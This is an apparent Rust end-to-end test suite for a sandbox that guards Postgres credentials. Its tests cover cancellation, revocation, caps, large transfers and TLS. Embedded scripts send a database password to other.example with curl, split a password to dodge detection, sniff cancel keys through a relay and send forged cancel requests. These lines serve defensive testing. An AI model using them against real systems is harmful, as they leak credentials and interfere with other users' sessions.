//! Connections that are open: cancelled, revoked, bounded, with much in them.

use super::{PSQL, rig, with_password};
use standin_e2e::{DATABASE_PASSWORD, Outcome, Rig};

/// Runs a program of Python's in the sandbox, with the means to ask by psql.
fn python(rig: &Rig, script: &str) -> Outcome {
    std::fs::write(rig.workspace().join("script.py"), format!("{PRELUDE}{script}")).unwrap();
    rig.run(&["/usr/bin/python3", "script.py"])
}

const PRELUDE: &str = r#"
import os, signal, socket, struct, subprocess, sys
PIPE = subprocess.PIPE
URL = os.environ.get("DATABASE_URL") or "postgres://app@db.example/shop"
PSQL = ["psql", "-X", "-q", "-A", "-t", "-v", "ON_ERROR_STOP=1", URL]
def ask(sql):
    return subprocess.run(PSQL + ["-c", sql], check=True, stdout=PIPE, text=True).stdout.strip()
def begin(*arguments, **more):
    return subprocess.Popen(PSQL + list(arguments), stdin=PIPE, stdout=PIPE, stderr=PIPE, text=True, **more)
def asleep():
    return ask("SELECT pid FROM pg_stat_activity WHERE query = 'SELECT pg_sleep(600)' AND state = 'active' ORDER BY backend_start").split()
"#;

/// Two statements run. One is cancelled as psql does it; then somebody tries with keys that no server of his gave.
#[test]
fn a_statement_is_cancelled_by_who_runs_it_and_by_nobody_else() {
    let (rig, _server) = rig("users = [\"app\"], databases = [\"shop\"]");
    let outcome = python(
        &rig,
        r#"
one = begin("-c", "SELECT pg_sleep(600)")
while len(asleep()) < 1: pass
two = begin("-c", "SELECT pg_sleep(600)")
while len(asleep()) < 2: pass
one.send_signal(signal.SIGINT)
print(one.communicate()[1].strip().splitlines()[-1])
[pid] = asleep()
def cancel(host, pid, key):
    io = socket.create_connection((host, 5432))
    io.sendall(struct.pack("!IIII", 16, 80877102, pid, key))
    return io.recv(100)
print([cancel("db.example", int(pid), key) for key in (0, 1, 0xffffffff)], cancel("other.example", int(pid), 0))
print("the other goes on", asleep() == [pid], two.poll())
two.send_signal(signal.SIGINT)
print(two.communicate()[1].strip().splitlines()[-1])
"#,
    );
    let outcome = outcome.succeeded();
    let cancelled = "ERROR:  canceling statement due to user request";
    let (first, rest) = outcome.stdout.split_once('\n').unwrap();
    assert_eq!(first, cancelled, "{}", outcome.log);
    let (tried, rest) = rest.split_once('\n').unwrap();
    assert!(tried.starts_with("[b'', b'', b''] b'E"), "{tried}");
    assert_eq!(rest, format!("the other goes on True None\n{cancelled}\n"), "{}", outcome.log);
    let of = |what: &str| outcome.records().iter().filter(|record| record.contains(what)).count();
    assert_eq!(of("postgres db.example 5432 cancel app@shop allow null completed"), 2, "{}", outcome.log);
    assert_eq!(
        of("postgres db.example 5432 cancel null deny postgres.request_not_allowed denied"),
        3,
        "{}",
        outcome.log
    );
}

/// The key that the server gave is not the one that the client has, so another session with the same server cannot be meant.
#[test]
fn the_servers_own_key_stays_outside() {
    let (rig, server) = rig("");
    let outcome = python(
        &rig,
        r#"
import threading
# What a client and a server say to each other passes here, in clear.
listener = socket.create_server(("127.0.0.1", 0))
heard = []
def relay():
    client, _ = listener.accept()
    server = socket.create_connection(("db.example", 5432))
    def up():
        while data := client.recv(65536): server.sendall(data)
    threading.Thread(target=up, daemon=True).start()
    while data := server.recv(65536):
        heard.append(data)
        client.sendall(data)
    client.close()
threading.Thread(target=relay, daemon=True).start()
port = listener.getsockname()[1]
url = URL.replace("@db.example", "@127.0.0.1:%d" % port) + "?sslmode=disable"
pid = subprocess.run(["psql", "-X", "-q", "-A", "-t", url, "-c", "SELECT pg_backend_pid()"], check=True, stdout=PIPE, text=True).stdout
at = b"".join(heard).index(b"K\0\0\0\x0c") + 5
told, key = struct.unpack("!II", b"".join(heard)[at:at + 8])
print(told == int(pid), key)
# It is good as long as the connection is.
io = socket.create_connection(("db.example", 5432))
io.sendall(struct.pack("!IIII", 16, 80877102, told, key))
print(io.recv(100))
"#,
    );
    let outcome = outcome.succeeded();
    assert!(outcome.stdout.starts_with("True ") && outcome.stdout.ends_with("\nb''\n"), "{}", outcome.stdout);
    assert!(outcome.records().last().unwrap().contains("cancel null deny"), "{}", outcome.log);
    drop(server);
}

/// A stream that was asked for before, and an idle connection.
#[test]
fn what_is_open_ends_when_the_stand_in_is_revoked() {
    let (rig, _server) = with_password("postgres = {}");
    let outcome = python(
        &rig.with(&["--on-leak", "revoke", "--allow", "other.example"]),
        r#"
idle = begin()
idle.stdin.write("SELECT 'begun';\n")
idle.stdin.flush()
print(idle.stdout.readline().strip())
stream = begin("-c", "COPY (SELECT repeat('x', 1000), generate_series(1, 1000000000)) TO STDOUT")
print(stream.stdout.readline()[:3])
subprocess.run(["curl", "-sS", "-o", "/dev/null", "-H", "X-Data: " + os.environ["PGPASSWORD"], "https://other.example/"], check=True)
while stream.stdout.read(1 << 20): pass
print(stream.stderr.read().strip().splitlines()[0])
print(idle.communicate("SELECT 'goes on';\n")[1].strip().splitlines()[0])
print(subprocess.run(PSQL + ["-c", "SELECT 1"], stderr=PIPE, text=True).returncode)
"#,
    );
    let outcome = outcome.succeeded();
    let lines: Vec<&str> = outcome.stdout.lines().collect();
    assert_eq!((lines[0], lines[1], lines[4]), ("begun", "xxx", "2"), "{}\n{}", outcome.stdout, outcome.stderr);
    for line in &lines[2..4] {
        assert!(line.contains("is worth nothing in this session since"), "{}", outcome.stdout);
    }
    let revoked = outcome.records().into_iter().filter(|record| record.contains("credential.revoked denied")).count();
    // psql tries the last one without TLS, too.
    assert_eq!(revoked, 4, "{}", outcome.log);
}

#[test]
fn bytes_and_connections_are_bounded() {
    let (rig, server) = with_password("postgres = {}");
    let config = std::fs::read_to_string(rig.path("config.toml")).unwrap();
    let rows = |count| format!("seq 1 {count} | {PSQL} postgres://app@db.example/shop -c 'COPY goods (id) FROM STDIN'");
    for (cap, counts, expected) in [
        (
            "bytes_out = 100_000",
            [1000, 100_000],
            "the cap of 100000 bytes of request bodies for db.example would be passed",
        ),
        ("requests = 1", [1000, 1000], "the cap of 1 requests for db.example is reached"),
    ] {
        server.sql("shop", "TRUNCATE goods");
        rig.marker("config.toml", &format!("{config}\n[caps.each_host]\n{cap}\n"));
        let outcome = rig.script(&format!("set -e; {}; {}", rows(counts[0]), rows(counts[1])));
        assert!(outcome.code != Some(0) && outcome.stderr.contains(expected), "{cap}\n{}", outcome.stderr);
        assert_eq!(server.sql("shop", "SELECT count(*) FROM goods"), "1000", "{cap}");
    }
}

/// Rows longer than what is gathered, and many of them, in both directions.
#[test]
fn much_data_passes_as_it_is() {
    let (rig, server) = rig("");
    let outcome = rig.script(&format!(
        "set -e; head -c 3000000 /dev/zero | tr '\\0' x >long; yes \"1\t$(head -c 900 long)\" | head -n 5000 >many; \
         {PSQL} $DATABASE_URL -c 'TRUNCATE goods' -c '\\copy goods FROM many' -c \"\\copy goods (name) FROM long\"; \
         {PSQL} $DATABASE_URL -c 'COPY goods TO STDOUT' >back; \
         (cat many; printf '\\\\N\\t'; cat long; echo) | cmp - back && wc -c <back"
    ));
    assert_eq!(outcome.succeeded().stdout, format!("{}\n", 5_000 * 903 + 3_000_004));
    assert_eq!(server.sql("shop", "SELECT count(*), max(length(name)) FROM goods"), "5001|3000000");
}

/// The string stands in the workspace's own file, and the command reads it there.
#[test]
fn a_string_in_a_dotenv_file_has_its_stand_in_there() {
    let (rig, server) = rig("");
    let password = "another-Canary-for-the-file";
    server.sql("postgres", &format!("ALTER ROLE app PASSWORD '{password}'"));
    let url = format!("postgres://app:{password}@db.example/shop");
    std::fs::write(rig.workspace().join(".env"), format!("PORT=3000\nDATABASE_URL={url}\n")).unwrap();
    let config = std::fs::read_to_string(rig.path("config.toml")).unwrap();
    let source = format!("file:{}#DATABASE_URL", rig.workspace().join(".env").display());
    let config = config.replace("env:DATABASE_URL", &source);
    rig.marker("config.toml", &config.replace("env = [\"DATABASE_URL\"]\n", ""));
    let outcome = rig.script(&format!("set -e; cat .env; . ./.env; {PSQL} $DATABASE_URL -c 'SELECT name FROM goods'"));
    let outcome = outcome.succeeded();
    assert!(outcome.stdout.starts_with("PORT=3000\nDATABASE_URL=postgres://app:"), "{}", outcome.stdout);
    assert!(outcome.stdout.ends_with("@db.example/shop\ntea\n"), "{}", outcome.stdout);
    assert!(!format!("{}{}{}", outcome.stdout, outcome.stderr, outcome.log).contains(password), "{}", outcome.stdout);
}

/// TLS without asking for it first, as psql 17 has it (`sslnegotiation=direct`), by a client that is ours.
#[test]
fn tls_may_begin_at_once() {
    let (rig, _server) = rig("users = [\"app\"], databases = [\"shop\"]");
    let outcome = python(
        &rig,
        r#"
import base64, hashlib, hmac, ssl
def connect(protocols, name="db.example"):
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    context.set_alpn_protocols(protocols)
    return context.wrap_socket(socket.create_connection(("db.example", 5432)), server_hostname=name)
io = connect(["postgresql"])
print(io.selected_alpn_protocol())
def send(tag, body): io.sendall(tag + struct.pack("!I", len(body) + 4) + body)
def exactly(count):
    data = b""
    while len(data) < count: data += io.recv(count - len(data)) or sys.exit("it broke off")
    return data
def take():
    tag, length = struct.unpack("!cI", exactly(5))
    return tag, exactly(length - 4)
send(b"", struct.pack("!I", 0x30000) + b"user\0app\0database\0shop\0\0")
print(take()[1][4:].split(b"\0")[:2])
bare = b"n=,r=nonce"
send(b"p", b"SCRAM-SHA-256\0" + struct.pack("!I", len(bare) + 3) + b"n,," + bare)
first = take()[1][4:]
fields = dict(field.split(b"=", 1) for field in first.split(b","))
salted = hashlib.pbkdf2_hmac("sha256", URL.split(":")[2].split("@")[0].encode(), base64.b64decode(fields[b"s"]), int(fields[b"i"]))
sign = lambda key, text: hmac.digest(key, text, "sha256")
last = b"c=biws,r=" + fields[b"r"]
key = sign(salted, b"Client Key")
signature = sign(hashlib.sha256(key).digest(), b",".join([bare, first, last]))
proof = bytes(a ^ b for a, b in zip(key, signature))
send(b"p", last + b",p=" + base64.b64encode(proof))
# Asked for together with the answer, before anybody said yes.
send(b"Q", b"SELECT name FROM goods\0")
while (message := take())[0] != b"D": pass
print(message[1][6:])
try: connect(["postgresql"], "other.example"); print("another name passed")
except (ssl.SSLError, OSError): print("another name is refused")
"#,
    );
    let outcome = outcome.succeeded();
    let expected = "postgresql\n[b'SCRAM-SHA-256-PLUS', b'SCRAM-SHA-256']\nb'tea'\n";
    assert!(outcome.stdout.starts_with(expected), "{}\n{}", outcome.stdout, outcome.stderr);
}

/// A list of words, fetched from anywhere, tells nothing of a password that is among them.
#[test]
fn a_password_that_is_a_word_is_not_told_by_what_is_replaced() {
    let words = "letmein hunter2hunter qwertyuiop";
    let (rig, server) = rig("");
    server.sql("postgres", "ALTER ROLE app PASSWORD 'hunter2hunter'");
    let rig = rig
        .variable("DATABASE_URL", "postgres://app:hunter2hunter@db.example/shop")
        .with(&["--allow", "other.example"]);
    let outcome = rig.script(&format!(
        "{PSQL} $DATABASE_URL -c 'SELECT name FROM goods'; curl -sS -H 'X-Words: {words}' https://other.example/"
    ));
    let outcome = outcome.succeeded();
    assert!(outcome.stdout.starts_with("tea\n") && outcome.stdout.contains(words), "{}", outcome.stdout);
    // A longer one is in no list, and is looked for.
    let rig = rig.variable("DATABASE_URL", &format!("postgres://app:{DATABASE_PASSWORD}@db.example/shop"));
    let halves = DATABASE_PASSWORD.split_at(9);
    let script = format!("curl -sS -H \"X-Words: {}$(printf %s {})\" https://other.example/", halves.0, halves.1);
    let outcome = rig.script(&script).succeeded();
    assert!(outcome.origin_got("x-words", DATABASE_PASSWORD), "{}", outcome.log);
    assert!(outcome.stdout.contains("x-words") && !outcome.stdout.contains(DATABASE_PASSWORD), "{}", outcome.stdout);
}
